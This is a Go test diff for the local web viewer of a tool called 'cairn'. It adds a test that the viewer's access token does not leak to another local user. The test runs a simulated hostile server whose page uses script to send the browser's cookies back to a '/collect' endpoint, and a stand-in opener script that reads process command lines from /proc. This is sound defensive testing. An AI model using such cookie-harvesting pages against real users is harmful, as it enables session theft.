@@ -5,12 +5,18 @@ import (
 	"bytes"
 	"context"
 	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
 	"net/url"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"regexp"
 	"strings"
+	"sync"
+	"syscall"
 	"testing"
 	"time"
 
@@ -95,11 +101,21 @@ func (s uiServer) at(path string) string {
 	return s.base + path + sep + "token=" + s.token
 }
 
-// startUI starts `cairn ui` in repo and reads the URL it prints; the
-// server is stopped with SIGINT when the test ends, and must stop cleanly.
-func startUI(t *testing.T, repo string) uiServer {
+// startUI starts `cairn ui` in repo (with args) and reads the URL it
+// prints; the server is stopped with SIGINT when the test ends, and must
+// stop cleanly.
+func startUI(t *testing.T, repo string, args ...string) uiServer {
 	t.Helper()
-	cmd := exec.Command(cairntest.Binary(t), "--dir", repo, "ui")
+	s, _ := startUICmd(t, repo, nil, args...)
+	return s
+}
+
+// startUICmd is startUI with the process's environment (nil: the test's)
+// and the process itself.
+func startUICmd(t *testing.T, repo string, env []string, args ...string) (uiServer, *exec.Cmd) {
+	t.Helper()
+	cmd := exec.Command(cairntest.Binary(t), append([]string{"--dir", repo, "ui"}, args...)...)
+	cmd.Env = env
 	stdout, err := cmd.StdoutPipe()
 	if err != nil {
 		t.Fatal(err)
@@ -123,10 +139,10 @@ func startUI(t *testing.T, repo string) uiServer {
 		t.Fatalf("cairn ui printed no URL: %v\n%s", err, stderr.String())
 	}
 	u, err := url.Parse(strings.TrimSpace(line))
-	if err != nil || u.Query().Get("token") == "" || u.Scheme != "http" || !strings.HasPrefix(u.Host, "127.0.0.1:") {
+	if err != nil || u.Query().Get("token") == "" || u.Scheme != "http" || net.ParseIP(u.Hostname()) == nil || !net.ParseIP(u.Hostname()).IsLoopback() {
 		t.Fatalf("cairn ui printed %q", line)
 	}
-	return uiServer{base: "http://" + u.Host, token: u.Query().Get("token")}
+	return uiServer{base: "http://" + u.Host, token: u.Query().Get("token")}, cmd
 }
 
 // seedUIProject is a git project with a committed log of entries, one
@@ -336,5 +352,130 @@ func TestUIBeyondLoopbackWarns(t *testing.T) {
 	}
 	if !strings.Contains(stderr.String(), "cairn: warning: listening on 0.0.0.0:") || !strings.Contains(stderr.String(), "beyond this machine") {
 		t.Errorf("no warning on stderr:\n%s", stderr.String())
+	}
+}
+
+// The viewer's token stays with its user. A second local user runs a
+// server on loopback and reads every cookie the browser sends it, and
+// every process's command line: neither the cookies nor the arguments
+// hold the token, and nothing they hold loads a page.
+func TestUITokenStaysWithItsUser(t *testing.T) {
+	clitest.SkipIfShort(t, "Chromium")
+	bin := chromium(t)
+	repo := seedUIProject(t)
+
+	// The other user's server: its page makes the browser open the viewer
+	// (as the person would), then call back, with whatever cookies the
+	// browser holds for 127.0.0.1.
+	var mu sync.Mutex
+	var seen []string
+	var target string
+	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		seen = append(seen, r.Header.Get("Cookie"))
+		to := target
+		mu.Unlock()
+		if r.URL.Path == "/collect" {
+			io.WriteString(w, "collected")
+			return
+		}
+		fmt.Fprintf(w, `<!doctype html><title>t</title><body><script>
+fetch(%q, {credentials: "include", mode: "no-cors"}).catch(() => 0).then(() => fetch("/collect")).then(r => r.text()).then(t => document.body.setAttribute("data-done", t))
+</script>`, to)
+	}))
+	defer evil.Close()
+
+	for _, tc := range []struct {
+		name string
+		args []string
+	}{
+		{"its own loopback address", nil},
+		{"on 127.0.0.1 beside the other server", []string{"--addr", "127.0.0.1:0"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			srv := startUI(t, repo, tc.args...)
+			mu.Lock()
+			target, seen = srv.at("/"), nil
+			mu.Unlock()
+			if d := dom(t, bin, evil.URL+"/"); !strings.Contains(d, `data-done="collected"`) {
+				t.Fatalf("the other server's page did not finish:\n%s", d)
+			}
+			mu.Lock()
+			cookies := strings.Join(seen, "; ")
+			mu.Unlock()
+			if strings.Contains(cookies, srv.token) {
+				t.Errorf("the other server received the token: %s", cookies)
+			}
+			if len(tc.args) == 0 && strings.Contains(cookies, "cairn_ui_") {
+				t.Errorf("the other server received the viewer's cookie: %s", cookies)
+			}
+			// Whatever it received opens no page of the viewer.
+			for _, c := range strings.Split(cookies, "; ") {
+				if c == "" {
+					continue
+				}
+				req, _ := http.NewRequest("GET", srv.base+"/", nil)
+				req.Header.Set("Cookie", c)
+				if len(tc.args) == 0 {
+					resp, err := http.DefaultClient.Do(req)
+					if err != nil {
+						t.Fatal(err)
+					}
+					resp.Body.Close()
+					if resp.StatusCode != http.StatusForbidden {
+						t.Errorf("the cookie %q the other server received opened the viewer: %d", c, resp.StatusCode)
+					}
+				}
+			}
+		})
+	}
+
+	// --open: the opener (a stand-in for xdg-open that records its
+	// arguments and hands them to Chromium) gets no secret on its command
+	// line, and the browser still reaches the viewer.
+	dir := t.TempDir()
+	fifo := filepath.Join(dir, "dom")
+	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	opener := "#!/bin/sh\nprintf '%s\\n' \"$0\" \"$@\" > " + filepath.Join(dir, "args") + "\n" +
+		"cat /proc/$PPID/cmdline | tr '\\0' ' ' > " + filepath.Join(dir, "parent") + "\n" +
+		"exec " + bin + " --headless --no-sandbox --disable-gpu --no-first-run --disable-extensions --user-data-dir=" + filepath.Join(dir, "profile") +
+		" --virtual-time-budget=3000 --dump-dom \"$1\" > " + fifo + " 2>/dev/null\n"
+	bindir := filepath.Join(dir, "bin")
+	if err := os.MkdirAll(bindir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(bindir, "xdg-open"), []byte(opener), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	env := append(os.Environ(), "PATH="+bindir+string(os.PathListSeparator)+os.Getenv("PATH"))
+	srv, cmd := startUICmd(t, repo, env, "--open")
+	page, err := os.ReadFile(fifo) // until Chromium is done
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(page), "the cache rebuilds itself") {
+		t.Errorf("the browser --open started did not reach the viewer:\n%s", page)
+	}
+	args, _ := os.ReadFile(filepath.Join(dir, "args"))
+	parent, _ := os.ReadFile(filepath.Join(dir, "parent"))
+	self, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", cmd.Process.Pid))
+	for what, text := range map[string]string{"the opener's arguments": string(args), "cairn ui's command line": string(parent) + string(self)} {
+		if strings.Contains(text, srv.token) {
+			t.Errorf("%s hold the token: %s", what, text)
+		}
+	}
+	lines := strings.Split(strings.TrimSpace(string(args)), "\n")
+	if len(lines) != 2 || !strings.HasPrefix(lines[1], "file://") {
+		t.Fatalf("the opener was given %q", lines)
+	}
+	file := strings.TrimPrefix(lines[1], "file://")
+	st, err := os.Stat(file)
+	if err != nil || st.Mode().Perm() != 0o600 {
+		t.Errorf("the page --open hands over: %v, %v", st, err)
+	}
+	if dst, err := os.Stat(filepath.Dir(file)); err != nil || dst.Mode().Perm() != 0o700 {
+		t.Errorf("its directory: %v, %v", dst, err)
 	}
 }
